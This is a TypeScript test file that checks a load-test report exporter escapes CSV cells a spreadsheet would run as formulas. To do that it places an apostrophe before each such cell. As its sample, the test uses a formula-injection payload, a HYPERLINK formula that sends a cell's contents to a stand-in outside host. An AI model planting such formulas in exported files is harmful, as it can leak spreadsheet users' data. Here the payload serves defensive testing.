// Cells that a spreadsheet would run as formulas (docs/reports.md, "Cells that look like formulas").
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { failuresCsv, historyCsv, statsCsv } from '../../../src/core/report';
import { spreadsheetText } from '../../../src/core/report/locust-csv';
import { buildRunResult } from '../../fixtures/results';

describe('CSV text cells that look like formulas', () => {
  it('get a leading apostrophe; every other text stays as Locust writes it', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(spreadsheetText(`${start}1+1`), `'${start}1+1`);
    for (const plain of ['GET /x', 'Aggregated', 'List hospitals', '', "'quoted", 'HTTP 500']) assert.equal(spreadsheetText(plain), plain);
  });

  it('in the names and errors of all three files, never in the numbers', () => {
    const result = buildRunResult({ durationS: 3 });
    const first = result.endpoints[0];
    assert.ok(first);
    const evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")';
    const oldName = first.name;
    first.name = evil;
    for (const interval of result.intervals) for (const stats of interval.endpoints) if (stats.name === oldName) stats.name = evil;
    result.failures = [{ method: 'GET', name: evil, error: '@SUM(1)', occurrences: 3 }];
    const stats = statsCsv(result);
    const failures = failuresCsv(result);
    const history = historyCsv(result, true);
    for (const text of [stats, failures, history]) {
      assert.ok(text.includes(`"'=HYPERLINK(""http://x.invalid/?""&A1,""click"")"`), text.slice(0, 300));
      assert.ok(!/(^|,)"?[=+@]/m.test(text), 'no cell starts a formula');
    }
    assert.ok(failures.includes(",'@SUM(1),3\r\n"));
  });
});
